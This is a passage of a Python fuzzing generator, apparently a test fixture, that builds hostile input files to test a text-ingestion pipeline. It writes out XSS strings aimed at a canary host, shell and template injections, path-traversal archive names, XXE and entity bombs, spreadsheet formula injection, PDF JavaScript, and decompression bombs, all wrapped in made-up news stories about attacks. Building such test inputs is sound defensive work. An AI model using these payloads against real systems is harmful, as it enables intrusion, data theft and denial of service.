"""Makes hostile inputs, by class: files as strangers send them to do harm, or by mistake. The same seed makes the same bytes.

What each class tries is said in `CLASSES`. Where words may become a script, a request or a file, they carry the input's own mark, so that
`hostile.py` can tell whose it was. Archives that grow without end, and texts of millions of characters, take long: they are in `LONG`.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import os
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from pathlib import Path
from typing import Final

Files = Iterator[tuple[str, bytes]]
"""Names, and what stands in the files of these names."""
Make = Callable[[random.Random], Files]

RAN: Final = "kgRan"
"""The list in a window that scripts put their mark into."""
HOST: Final = "canary.invalid"
"""The host that nothing may ask for anything."""

SHORTEST: Final = "\u0301\u200b\u202e\ufeff\u00ad\u3000\u0085\u2028" + "aZ0.,!?“”'\"-<>&%$#@[]{}()\\|/~`^_=+*:;çßİıﬁ中ش👩🏽𝔄"
BIDI: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN: Final = "\u00ad\u034f\u180e\u200b\u200c\u200d\u2060\ufeff\ufe0f\U000e0001\U000e0041"
CITIES: Final = (
    "Kabul",
    "Herat",
    "Mosul",
    "Aleppo",
    "Homs",
    "Quetta",
    "Aden",
    "Tripoli",
    "Mogadishu",
    "Khartoum",
    "Goma",
    "Bamako",
    "Kano",
)
MONTHS: Final = ("January", "March", "April", "May", "July", "August", "October", "November", "December")
DEEDS: Final = (
    *(
        ("attacked a market", "killing"),
        ("bombed a station", "wounding"),
        ("stormed a school", "kidnapping"),
        ("shot at a bus", "injuring"),
    ),
    ("shelled a village", "displacing"),
)
ENCODINGS: Final = (
    "cp1252",
    "latin-1",
    "shift_jis",
    "big5",
    "gb18030",
    "koi8-r",
    "utf-7",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "cp037",
)


def story(number: int, *, who: str = "Red Front", where: str = "", more: str = "") -> str:
    """Return a short article in which something happens; no two are reprints of one another, or tell of the same event."""
    city, (did, doing) = where or CITIES[number % len(CITIES)], DEEDS[number % len(DEEDS)]
    day = f"{number % 28 + 1} {MONTHS[number % len(MONTHS)]} {2000 + number % 23}"
    return (
        f"Gunmen from the {who} {did} in {city} on {day}, {doing} {number + 3} people.\n"
        f"Police said that the {who} claimed responsibility for incident number {number}. {more}\n"
    )


def scripts(mark: str) -> tuple[str, ...]:
    """Return words that would run or ask for something if a page took them for markup, an address or code."""
    run = f"(window.{RAN}=window.{RAN}||[]).push('{mark}')"
    return (
        f"<script>{run}</script>",
        f"</script><script>{run}</script>",
        f'<img src=x onerror="{run}">',
        f'"><svg onload="{run}">',
        f"'><details open ontoggle={run}>",
        f"<iframe srcdoc=\"<script>parent.{RAN}=['{mark}']</script>\"></iframe>",
        f"javascript:{run}",
        f"JaVaScRiPt\u0009:{run}//",
        f"data:text/html,<script>{run}</script>",
        f"<img src=https://{HOST}/{mark}.png>",
        f"//{HOST}/{mark}",
        f'<link rel=stylesheet href="https://{HOST}/{mark}.css">',
        f"<style>@import 'https://{HOST}/{mark}.css'</style>",
        f'<base href="https://{HOST}/{mark}/">',
        f'<form action="https://{HOST}/{mark}"><input autofocus onfocus="{run}">',
        f"<!--<script>{run}//-->",
        f'{{{{constructor.constructor("{run}")()}}}}',
        f"{{% print({run}) %}}${{{run}}}",
        f"\u2028{run}\u2029//",
        f"]]><script>{run}</script>",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
        f"+ADw-script+AD4-{run}+ADw-/script+AD4-",
    )


def line(**values: object) -> bytes:
    return json.dumps(values).encode()


def page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html lang=en><head>{head}</head><body><article>{body}</article></body></html>".encode("utf-8", "surrogatepass")


def paragraphs(number: int) -> str:
    return "".join(f"<p>{words}</p>" for words in story(number).splitlines())


def damaged(source: random.Random, content: bytes) -> bytes:
    """Return the content with some pieces cut out, doubled, overwritten or put in."""
    made = bytearray(content)
    for _ in range(source.randint(1, 6)):
        at, size = source.randrange(len(made) + 1), source.choice((1, 2, 4, 16, 256))
        piece = source.choice(
            (source.randbytes(size), bytes(made[at : at + size]), b"\xff" * 4, b"\0" * 4, b"9" * 20, b"-1", b"<", b"%", b"")
        )
        made[at : at + source.choice((0, len(piece), size))] = piece
    return bytes(made)


# ---------------------------------------------------------------- text


def encodings(source: random.Random) -> Files:
    text = story(1, who="Ärger Zürich naïve “Front”", more="Ελλάδα Москва 日本 — ½ €")
    for number, encoding in enumerate(ENCODINGS * 4):
        words = text.replace("incident number 1", f"incident number {number}").encode(encoding, "ignore")
        yield f"{number}.{('txt', 'csv', 'jsonl', 'md')[number % 4]}", b"text\n" + words if number % 4 == 1 else words
    for number, encoding in enumerate((*ENCODINGS, "x-user-defined", "utf-8", "base64", "rot13", "idna", "undefined", "unicode_escape")):
        yield f"p{number}.html", page(paragraphs(100 + number), f"<meta charset={encoding}>")
        yield (
            f"q{number}.xml",
            f'<?xml version="1.0" encoding="{encoding}"?><rss><channel><item><description>{story(number)}</description></item></channel></rss>'.encode(),
        )
    whole = text.encode()
    for number, content in enumerate(
        (
            whole[:-3] + b"\xe2\x80",
            b"\xc0\xaf" + whole,
            b"\xed\xa0\x80" + whole,
            b"\xf8\x88\x80\x80\x80" + whole,
            b"\xef\xbb\xbf\xef\xbb\xbf" + whole,
        )
    ):
        yield f"u{number}.txt", content
        yield f"u{number}.csv", b"text\n" + content
    yield "mixed.txt", whole + text.encode("cp1252", "ignore")
    yield "random.txt", source.randbytes(500)


def unseen_characters(source: random.Random) -> Files:
    for number in range(60):
        words = list(story(number, who=source.choice(("Red Front", "Army of Ada Roe", "Ministry"))))
        for _ in range(source.randint(1, 40)):
            words.insert(source.randrange(len(words)), source.choice(BIDI if number % 2 else UNSEEN))
        yield f"{number}.txt", "".join(words).encode()


def surrogates(source: random.Random) -> Files:
    del source
    for number, field in enumerate(("id", "text", "title", "publisher", "url", "language", "published", "x\\ud800")):
        for half in ("\\ud800", "\\udfff", "\\udc80\\ud83d", "\\ud83d\\ude00"):
            values = {"text": story(number), "title": "t", field.replace("\\ud800", "\ud800"): "@"}
            yield f"{number}{half[2:5]}{half[-3:]}.jsonl", json.dumps(values).replace('"@"', f'"{half} x"').encode()
    for number, head in enumerate(
        (
            '<script type="application/ld+json">{"@type":"NewsArticle","headline":"A \\ud800 b","publisher":{"name":"P \\udc00"}}</script>',
            "<title>A &#xD800; b</title>",
            '<meta property="og:title" content="A &#55296; b"><meta property="og:site_name" content="\ud83d">',
            '<link rel="canonical" href="https://example.org/\ud800">',
        )
    ):
        yield f"p{number}.html", page(paragraphs(number), head)
        yield (
            f"f{number}.rss",
            f"<rss><channel><title>&#xD800;</title><item><title>{head}</title><description>x</description></item></channel></rss>".encode(
                "utf-8", "surrogatepass"
            ),
        )


def shortest(source: random.Random) -> Files:
    del source
    for number, character in enumerate(SHORTEST):
        yield f"{number}.txt", character.encode()
        yield f"{number}.jsonl", line(id=f"short {number}", text=character)
    yield "empty.txt", b""
    yield "zero.jsonl", b""
    yield "blank.txt", b" \r\n\t\x0b\x0c"


def controls(source: random.Random) -> Files:
    for number, code in enumerate((*range(9), 11, 12, *range(14, 32), 127, 133, 155, 0xFFFE, 0xFFFF, 0xFDD0, 0x10FFFF)):
        character = chr(code)
        yield (
            f"{number}.jsonl",
            line(
                id=f"control {character} {number}",
                text=story(number, who=f"Red{character} Front"),
                title=f"a{character}b",
                publisher=f"{character}p",
            ),
        )
    yield "terminal.txt", story(1, who="\x1b]0;owned\x07\x1b[2J\x1b[31m Front").encode()
    yield "returns.txt", story(2).replace("\n", "\r").encode()
    yield "breaks.txt", story(3).replace(" ", source.choice("\x85\u2028\u2029\x0b\x0c")).encode()


def odd_letters(source: random.Random) -> Files:
    forms: tuple[Callable[[str], str], ...] = (
        lambda text: text.replace("i", "İ").replace("s", "ſ"),
        lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
        lambda text: "".join(chr(0x1D400 + ord(c) - 65) if "A" <= c <= "Z" else c for c in text),
        lambda text: "".join(c + "".join(chr(source.randrange(0x300, 0x36F)) for _ in range(8)) for c in text),
        lambda text: text.replace("a", "а").replace("e", "е").replace("o", "ο"),
        lambda text: "".join(chr(0x660 + int(c)) if c.isdigit() else c for c in text),
        lambda text: text.replace(" ", "👩\u200d👩\u200d👧\u200d👦"),
        lambda text: text.replace("fi", "ﬁ").replace("ss", "ß").upper(),
        lambda text: text.swapcase(),
        lambda text: "\u0600\u06dd\u070f" + text + "\U000110bd",
    )
    for number in range(50):
        yield f"{number}.txt", forms[number % len(forms)](story(number)).encode()


def numbers(source: random.Random) -> Files:
    del source
    counts = (
        "9" * 400,
        "9" * 5000,
        "1e400",
        "1,2,3,4",
        "1.000.000,5",
        "-5",
        "0",
        "²³",
        "½",
        "٣٩",
        "1/0",
        "∞",
        "NaN",
        "10**9",
        "0x1F",
        "1,000" + ",000" * 50,
    )
    for number, count in enumerate(counts):
        yield (
            f"c{number}.txt",
            f"{story(number)}The blast killed {count} people. The death toll rose to {count}, down from {count}.".encode(),
        )
    times = (
        "0000-01-01",
        "9999-12-31",
        "2024-02-30",
        f"{'9' * 5000} years ago",
        "31 June 2023",
        "00/00/0000",
        "the 99th of May",
        "25:61 GMT",
        "year 0",
        "12/13/14/15",
    )
    for number, time in enumerate(times):
        for day in ("0001-01-01", "9999-12-31", "2024-02-29"):
            yield (
                f"t{number}-{day}.jsonl",
                line(
                    id=f"time {number} {day}",
                    text=story(number, more=f"It began on {time}, next week, last year and two days after the {time} attack."),
                    published=day,
                ),
            )


def long_runs(source: random.Random) -> Files:
    del source
    runs = (
        " ",
        "\n",
        "9",
        "a",
        "1,",
        "one ",
        ".",
        "“",
        '"',
        "(",
        "-",
        "'",
        "including ",
        "from ",
        "said that ",
        "of ",
        "U.S.",
        "the ",
        "https://a.b/",
        "e\u0301",
        "👩\u200d",
    )
    for number, run in enumerate(runs):
        times = 4000 // len(run)
        yield (
            f"{number}.txt",
            f"Rebels killed 12{run * times}people including{run * times}3 children, down from{run * times}14 to{run * times}9, he said.".encode(),
        )


# ---------------------------------------------------------------- scripts, queries, paths


def scripts_in_fields(source: random.Random) -> Files:
    del source
    for field in ("title", "publisher", "url", "id", "language", "published"):
        for number in range(len(scripts(""))):
            mark = f"field-{field}-{number}"
            values = {"id": mark, "text": story(number, who=f"{field.title()} Front"), field: scripts(mark)[number]}
            yield f"{field}-{number}.jsonl", line(**values)


def scripts_in_text(source: random.Random) -> Files:
    del source
    for number in range(len(scripts(""))):
        for place, who in (("name", "{} Front"), ("middle", "Red {} Front"), ("after", "Red Front{}")):
            mark = f"text-{place}-{number}"
            words = scripts(mark)[number]
            yield f"{place}-{number}.txt", story(number, who=who.format(words), more=f"“{words}” said General {words} Roe.").encode()


def scripts_in_pages(source: random.Random) -> Files:
    del source
    for number in range(len(scripts(""))):
        words, mark = scripts(f"page-{number}")[number], f"page-{number}"
        quoted = words.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        head = (
            f"<title>{quoted}</title><meta property='og:title' content=\"{quoted}\"><meta property='og:site_name' content=\"{quoted}\">"
            f'<meta property=\'og:url\' content="{quoted}"><link rel=canonical href="{quoted}"><meta name=author content="{quoted}">'
        )
        yield (
            f"{number}.html",
            page(f"<h1>{quoted}</h1>{paragraphs(number)}<p>The {quoted} Front said that it was ready for {mark} today.</p>{words}", head),
        )
        yield (
            f"{number}.md",
            f"---\ntitle: {words}\nsource: {words}\nurl: {words}\n---\n# {words}\n\n{story(number, who=words)}\n[a]({words})".encode(),
        )


def queries_in_fields(source: random.Random) -> Files:
    del source
    parts = (
        *(
            '" } ; DROP ALL #',
            "'''",
            '"""',
            "\\",
            "\\u0022",
            "> <urn:x> <urn:y",
            "<",
            "}{",
            "?x",
            "$x",
            "_:b",
            "^^<urn:x>",
            "@en",
            "%",
            "%00",
            "%2F..%2F",
        ),
        *(
            "a b",
            "a/b",
            "a#b",
            "a?b",
            "//",
            "..",
            ".",
            "~",
            "urn:x",
            "http://example.org/x",
            "mailto:a@b",
            "file:///etc/passwd",
            "|",
            "`",
            "'; --",
        ),
    )
    for number, part in enumerate(parts):
        for field in ("id", "title", "url"):
            values = {
                "id": f"query {number} {field}",
                "text": story(number, who=f"Red {part} Front", where=f"Kabul {part}"),
                field: f"{part}{number}{field}",
            }
            yield f"{number}-{field}.jsonl", line(**values)


def formulas(source: random.Random) -> Files:
    del source
    for number, start in enumerate(("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "|", ";=", '"=', "'=", " =", "\ufeff=")):
        cell = f"{start}cmd|' /C calc'!A0"
        yield f"f{number}.jsonl", line(id=f"{cell}{number}", text=story(number, who=f"{cell} Front"), title=cell, publisher=cell, url=cell)
        yield (
            f"h{number}.jsonl",
            line(
                id=f"link {number}", text=story(number), title=f'{start}HYPERLINK("https://{HOST}/formula-{number}","x")', publisher=start
            ),
        )
        yield f"t{number}.txt", f"{cell} {story(number, who=cell)}".encode()


def templates_and_paths(source: random.Random) -> Files:
    del source
    words = (
        *(
            "{{7*7}}",
            "${jndi:ldap://canary.invalid/a}",
            "%s%s%s%n",
            "{0.__class__}",
            "$(touch kg-pwned)",
            "`touch kg-pwned`",
            "; touch kg-pwned",
            "| touch kg-pwned",
        ),
        *(
            "../../../../tmp/kg-pwned",
            "/etc/passwd",
            "C:\\Windows\\x",
            "\\\\host\\share",
            "file:///etc/passwd",
            "~root",
            "con",
            "a\0b",
            "__proto__",
            "constructor",
        ),
    )
    for number, part in enumerate(words):
        yield (
            f"{number}.jsonl",
            line(id=part, text=story(number, who=f"{part.replace(chr(0), '')} Front"), title=part, publisher=part, url=part),
        )
        yield f"n{number}.jsonl", line(id=f"key {number}", text=story(number, where="Herat"), **{part: {part: part}})


# ---------------------------------------------------------------- tables, lines, dates


def broken_tables(source: random.Random) -> Files:
    text = story(1).replace("\n", " ").replace(",", "")
    bodies = (
        *(
            'text\n"',
            'text\n"a\nb\n',
            "text,text\na,b\n",
            ",,,\na,b,c,d\n",
            "\n\n\n",
            "text",
            "text\n",
            '"text\n',
            "text\n" + '"' * 999,
            "te\0xt\na\n",
            "text\n\0\n",
        ),
        *(
            "text\n" + "," * 999,
            ",".join(f"c{n}" for n in range(2000)) + "\n",
            f"text;date\n{text};x\n",
            f"text\tdate\n{text}\tx\n",
            "text,date\n" + "a\n" * 99,
        ),
        *(
            f"text\r{text}\r",
            f"text\r\n\r\n{text}\r\n",
            f'"te""xt",text\n"",{text}\n',
            f"\ufefftext\n{text}\n",
            f"text\n{text}\x1a\n",
            f"TEXT,Text,text\na,b,{text}\n",
        ),
    )
    for number, body in enumerate(bodies):
        yield f"{number}.{'tsv' if number % 5 == 4 else 'csv'}", body.encode()
    for number in range(30):
        yield f"d{number}.csv", damaged(source, f'id,text,published\n1,"{story(number)}",2024-01-04\n2,"{story(number + 50)}",\n'.encode())


def broken_lines(source: random.Random) -> Files:
    text = json.dumps(story(1))
    bodies = (
        *(
            "NaN",
            "Infinity",
            "null",
            "true",
            "0",
            '""',
            "[]",
            "{}",
            "[" * 100_000,
            '{"text":' * 50_000,
            '{"text": ' + "9" * 5000 + "}",
            '{"text": 1e999}',
            '{"a": -0}',
        ),
        *(
            f'{{"text": {text}, "text": 5}}',
            f'{{"text": 5, "text": {text}}}',
            f'{{"text": {text}, "score": NaN}}',
            f'{{"text": {text}, "score": 1e999}}',
        ),
        *(
            f'{{"text": {text}, "__proto__": {{"x": 1}}}}',
            f'{{"text": {text}}} {{"text": {text}}}',
            f'{{"text": {text},}}',
            f"{{'text': {text}}}",
            f'{{"text": {text}',
        ),
        *(
            f'\ufeff{{"text": {text}}}',
            f'{{"TEXT": {text}}}',
            f'{{"te_xt": {text}}}',
            f'{{"body": {text}, "content": 5}}',
            f'{{"text": [{text}]}}',
            '{"text": "\\q"}',
        ),
        *(
            f'{{"text": {text}, "id": {value}}}'
            for value in ("5", "null", "true", "[]", "{}", '""', '" "', '"' + "x" * 100_000 + '"', "1e999", "-0")
        ),
        *(f'{{"text": {text}, "source": {value}}}' for value in ("5", "null", "[]", '{"name": "AP"}', '""', "NaN", "9" * 4000)),
        *(f'{{"text": {text}, "{"k" * size}": 1}}' for size in (0, 1, 100_000)),
        "{" + ",".join(f'"k{n}": 1' for n in range(50_000)) + f', "text": {text}}}',
    )
    for number, body in enumerate(bodies):
        yield f"{number}.jsonl", body.encode()
    for number in range(20):
        yield (
            f"d{number}.ndjson",
            damaged(source, b"\n".join(line(id=f"damaged {number} {n}", text=story(n * 20 + number)) for n in range(3))),
        )


def dates(source: random.Random) -> Files:
    del source
    days = (
        *(
            "",
            " ",
            "0",
            "0000-00-00",
            "0000-01-01",
            "0001-01-01",
            "9999-12-31",
            "10000-01-01",
            "-0001-01-01",
            "2024-13-01",
            "2024-02-30",
            "2024-1-1",
            "03/04/2024",
        ),
        *(
            "2024-01-03T25:00:00Z",
            "2024-01-03T00:00:00+99:99",
            "20240103",
            "2024-W01-3",
            "2024-001",
            "Thu, 04 Jan 2024 10:00:00 GMT",
            "Thu, 99 Jan 99999 10:00:00 GMT",
        ),
        *(
            "January 32, 2024",
            "9" * 5000,
            "1" * 20,
            "1704326400",
            "1e10",
            "NaN",
            "now",
            "tomorrow",
            "2024-01-03\u202e",
            "２０２４-０１-０３",
            "٢٠٢٤-٠١-٠٣",
            "2024-01-03\0",
        ),
        *(
            "2024-01-03T10:00:00.999999999999999999999Z",
            "Thu, 04 Jan 2024 10:00:00 +999999999",
            "(" * 5000,
            "Mon " * 2000,
            "\x85",
            "2024-01-03 -- DROP",
        ),
    )
    for number, day in enumerate(days):
        yield f"{number}.jsonl", line(id=f"date {number}", text=story(number), published=day)
        yield f"g{number}.jsonl", line(id=f"guessed {number}", text=story(number, where="Herat"), date=day)
        yield f"p{number}.html", page(paragraphs(number), f'<meta property="article:published_time" content="{day}">')


# ---------------------------------------------------------------- pages, feeds, Markdown


def page_bombs(source: random.Random) -> Files:
    text = paragraphs(1)
    for number, tag in enumerate(
        ("div", "b", "table", "blockquote", "ul><li", "span", "svg", "font", "a href=x", "select", "template", "math")
    ):
        for depth in (300, 3000, 50_000):
            yield f"{number}-{depth}.html", page(f"<{tag}>" * depth + text)
    wide = (
        *(
            "<p>" * 200_000,
            "<" * 500_000,
            "&" * 300_000,
            "&#x41;" * 100_000,
            "<!--" * 100_000,
            "<a " + "x=1 " * 200_000 + ">",
            "<p>a</p>" * 60_000,
            "<br>" * 200_000,
        ),
        *(
            "<![CDATA[" * 50_000,
            "<?x " * 100_000,
            "<p " + "a" * 1_000_000 + ">",
            '<img src="data:image/png;base64,' + "A" * 2_000_000 + '">',
            "<table><tr><td>" * 2000,
        ),
        *(
            "<script>" + "x" * 1_000_000,
            "<style>" + "a{}" * 300_000,
            "<title>" * 9999,
            "<html>" * 9999,
            "<body onload=x>" * 9999,
            "<p>" + "x" * 1_000_000 + "</p>",
            "</p>" * 200_000,
        ),
    )
    for number, body in enumerate(wide):
        yield f"w{number}.html", page(body + text)
    for number in range(30):
        yield f"d{number}.html", damaged(source, page(paragraphs(number), "<title>A blast</title><meta charset=utf-8>"))


def entities_and_feeds(source: random.Random) -> Files:
    item = f"<item><title>T</title><description>{story(1)}</description></item>"
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    declared = (
        *(
            laughs,
            f'<!ENTITY a9 "{"x" * 100_000}">',
            '<!ENTITY a9 SYSTEM "file:///etc/passwd">',
            f'<!ENTITY a9 SYSTEM "https://{HOST}/entity">',
            '<!ENTITY a9 SYSTEM "/dev/zero">',
        ),
        *(
            f'<!ENTITY % p SYSTEM "https://{HOST}/entity-p"> %p;',
            '<!ENTITY a9 "&a9;">',
            '<!ENTITY a9 PUBLIC "x" "expect://id">',
            "<!ELEMENT rss ANY>",
            f'<!NOTATION n SYSTEM "https://{HOST}/n">',
        ),
    )
    for number, body in enumerate(declared):
        for suffix in ("rss", "xml", "atom"):
            yield (
                f"e{number}.{suffix}",
                f"<?xml version='1.0'?><!DOCTYPE rss [{body}]><rss><channel><item><description>{'&a9;' * 50}{story(number)}</description></item></channel></rss>".encode(),
            )
        yield f"e{number}.html", f"<!DOCTYPE html [{body}]><html><body><article>&a9;{paragraphs(number)}</article></body></html>".encode()
        yield (
            f"e{number}.xhtml",
            f"<?xml version='1.0'?><!DOCTYPE html [{body}]><html><body><article>&a9;{paragraphs(number)}</article></body></html>".encode(),
        )
    feeds = (
        *(
            "<rss>",
            "<rss/>",
            "<rss><channel>" + "<a>" * 50_000,
            "<rss><channel><item>" + "<a/>" * 20_000,
            "<rss " + "a='1' " * 10 + ">" + item,
            "<svg/>",
            "<rss><channel>" + "<item/>" * 5000 + "</channel></rss>",
        ),
        f"<rss><channel><item><description><![CDATA[{paragraphs(7)}<script>x</script>]]></description></item></channel></rss>",
        f"<rss xmlns:xi='http://www.w3.org/2001/XInclude'><channel><item><description><xi:include href='file:///etc/passwd' parse='text'/>{story(8)}</description></item></channel></rss>",
        f"<?xml-stylesheet href='https://{HOST}/style'?><rss><channel>{item}</channel></rss>",
        f"<feed><entry><content type='xhtml'><div>{'<b>' * 3000}{story(9)}{'</b>' * 3000}</div></content></entry></feed>",
        f"<rss><channel><title>{'x' * 100_000}</title>{item}</channel></rss>",
    )
    for number, body in enumerate(feeds):
        yield f"f{number}.rss", body.encode()
    for number in range(20):
        yield (
            f"d{number}.rss",
            damaged(
                source,
                f"<rss><channel><title>P</title>{item.replace('incident number 1', f'incident number {number}')}</channel></rss>".encode(),
            ),
        )


def markdown(source: random.Random) -> Files:
    for number, run in enumerate(
        (">", "* ", "[", "![", "`", "(", "<", "**", "_", "~", "#", "|", "\\", "&", "- - ", "1. ", "[a](", "[]: x\n", "<!--", "\t")
    ):
        yield f"{number}.md", f"{run * 20_000}\n\n{story(number)}".encode()
        yield f"i{number}.md", f"{story(number + 30)}{run * 300}{story(number + 60)}".encode()
    yield "front.md", ("---\n" + "title: x\n" * 20_000 + "---\n" + story(1)).encode()
    yield "open.md", ("---\ntitle: x\n" + story(2)).encode()
    yield "alias.md", ("---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: *b\n---\n" + story(3)).encode()
    for number in range(10):
        yield f"d{number}.md", damaged(source, f"---\ntitle: T\ndate: 2024-01-04\n---\n# T\n\n{story(number + 90)}".encode())


# ---------------------------------------------------------------- binary formats


def pdf(*lines: str, title: str = "T") -> bytes:
    stream = "BT /F1 12 Tf 14 TL 50 700 Td " + " ".join(f"({words}) Tj T*" for words in lines) + " ET"
    objects = (
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        f"<</Length {len(stream)}>>stream\n{stream}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        f"<</Title({title})>>",
    )
    made = "%PDF-1.4\n" + "".join(f"{number} 0 obj{body}endobj\n" for number, body in enumerate(objects, start=1))
    return (made + "trailer<</Root 1 0 R/Info 6 0 R/Size 7>>\n%%EOF").encode("latin-1")


def pdfs(source: random.Random) -> Files:
    whole = pdf(*story(1).splitlines())
    yield "title.pdf", pdf(*story(2).splitlines(), title="<script>x\\(\\)</script>")
    yield "loop.pdf", whole.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield "count.pdf", whole.replace(b"/Count 1", b"/Count 999999999")
    yield "parent.pdf", whole.replace(b"/Contents 4 0 R", b"/Contents 3 0 R")
    yield "length.pdf", whole.replace(b"/Length ", b"/Length 99999999")
    bomb = zlib.compress(b"0" * 50_000_000)
    yield "bomb.pdf", whole + b"\n4 0 obj<</Length %d/Filter/FlateDecode>>stream\n" % len(bomb) + bomb + b"\nendstream endobj\n"
    yield "nested.pdf", whole.replace(b"<</Title(T)>>", b"[" * 50_000)
    yield "head.pdf", b"%PDF-1.7\n"
    for number in range(50):
        yield f"d{number}.pdf", damaged(source, pdf(*story(number + 3).splitlines()))


def parquet(source: random.Random) -> Files:
    import pyarrow as pa  # type: ignore[import-untyped]  # noqa: PLC0415 - ships no types; only this class needs it
    import pyarrow.parquet as pq  # type: ignore[import-untyped]  # noqa: PLC0415 - same

    def table(values: Mapping[str, object]) -> bytes:
        out = io.BytesIO()
        pq.write_table(pa.table(values), out)
        return out.getvalue()

    yield "numbers.parquet", table({"text": [1, 2]})
    yield "lists.parquet", table({"text": [["a"], ["b"]]})
    yield "bytes.parquet", table({"text": [b"\xff\xfe", b"a"]})
    yield "nulls.parquet", table({"text": pa.array([None, None], pa.string())})
    yield "many.parquet", table({f"c{n}": [1] for n in range(1500)})
    yield "none.parquet", table({"text": pa.array([], pa.string())})
    yield "same.parquet", table({"text": ["a" * 1000] * 5000})
    yield "dates.parquet", table({"text": [story(1), story(2)], "date": pa.array([2**62, -(2**62)], pa.timestamp("us"))})
    for number in range(42):
        yield (
            f"d{number}.parquet",
            damaged(source, table({"id": [f"p{number}", f"q{number}"], "text": [story(number + 3), story(number + 60)]})),
        )


def web_archives(source: random.Random) -> Files:
    def record(headers: str, body: bytes) -> bytes:
        return (
            f"WARC/1.0\r\nWARC-Type: response\r\nContent-Type: application/http\r\n{headers}Content-Length: {len(body)}\r\n\r\n".encode()
            + body
            + b"\r\n\r\n"
        )

    def response(number: int, http: str = "", kind: str = "text/html") -> bytes:
        return f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n{http}\r\n".encode() + page(paragraphs(number))

    heads = (
        "WARC-Date: x\r\n",
        "WARC-Target-URI: javascript:x\r\n",
        "WARC-Target-URI: \u202e\x1b[31m\r\n",
        "x" * 100_000 + ": y\r\n",
        "Content-Length: 99999999999\r\n",
        "Content-Length: -5\r\n",
    )
    for number, head in enumerate(heads):
        yield f"h{number}.warc", record(head, response(number))
    https = (
        "Content-Encoding: gzip\r\n",
        "Transfer-Encoding: chunked\r\n",
        "Content-Encoding: br\r\n",
        "\0: \0\r\n",
        "x\r\n" * 999,
        "Content-Encoding: deflate\r\n",
    )
    for number, http in enumerate(https):
        yield f"r{number}.warc", record("", response(number + 10, http))
    yield (
        "bomb.warc",
        record("", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(b"<p>" * 30_000_000)),
    )
    yield "line.warc", b"WARC/1.0\r\n" + b"x" * 2_000_000
    yield "kind.warc", record("", response(20, kind="\u202e/x"))
    for number in range(36):
        whole = record("WARC-Target-URI: https://example.org/\r\n", response(number + 30)) * 2
        yield f"d{number}.warc{'.gz' if number % 2 else ''}", damaged(source, gzip.compress(whole) if number % 2 else whole)


def random_bytes(source: random.Random) -> Files:
    suffixes = (
        "atom",
        "bz2",
        "csv",
        "gz",
        "html",
        "jsonl",
        "md",
        "parquet",
        "pdf",
        "rss",
        "tar",
        "tar.gz",
        "tsv",
        "txt",
        "warc",
        "wet",
        "xhtml",
        "xml",
        "zip",
        "zst",
        "docx",
        "exe",
    )
    for number in range(66):
        yield f"{number}.{suffixes[number % len(suffixes)]}", source.randbytes(source.choice((1, 7, 100, 5000)))


# ---------------------------------------------------------------- archives and names


def zipped(files: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def tarred(files: Iterable[tuple[str, bytes]], kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in files:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(content) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


BAD_NAMES: Final = (
    *(
        "../../../../tmp/kg-pwned.txt",
        "/tmp/kg-pwned.txt",
        "C:\\kg-pwned.txt",
        "..\\..\\kg-pwned.txt",
        "a/../../kg-pwned.txt",
        "\x1b[31m.txt",
        "\u202etxt.exe.txt",
        "a\nb.txt",
    ),  # noqa: S108 - what they would write to
    *(
        "a" * 4000 + ".txt",
        "d/" * 900 + "a.txt",
        ".txt",
        "..txt",
        "con.txt",
        "<img src=x onerror=x>.txt",
        "$(touch kg-pwned).txt",
        "'; --.txt",
        "%00.txt",
        "👩\u200d👩.txt",
        " .txt",
        "-rf.txt",
    ),
)


def archives(source: random.Random) -> Files:
    for number, name in enumerate(BAD_NAMES):
        content = story(number).encode()
        yield f"z{number}.zip", zipped([(name, content), ("b.txt", story(number + 40).encode())])
        yield f"t{number}.tar", tarred([(name, story(number + 80).encode())])
    for number, kind in enumerate(
        (
            tarfile.SYMTYPE,
            tarfile.LNKTYPE,
            tarfile.CHRTYPE,
            tarfile.BLKTYPE,
            tarfile.FIFOTYPE,
            tarfile.DIRTYPE,
            tarfile.GNUTYPE_SPARSE,
            b"Z",
        )
    ):
        yield f"k{number}.tar", tarred([("a.txt", b"")], kind, "/etc/passwd") + tarred([("b.txt", story(number).encode())])
    whole = zipped([("a.txt", story(200).encode()), ("b.jsonl", line(text=story(201)))])
    twice = zipped([("a.txt", story(202).encode())])
    yield (
        "encrypted.zip",
        twice.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0").replace(
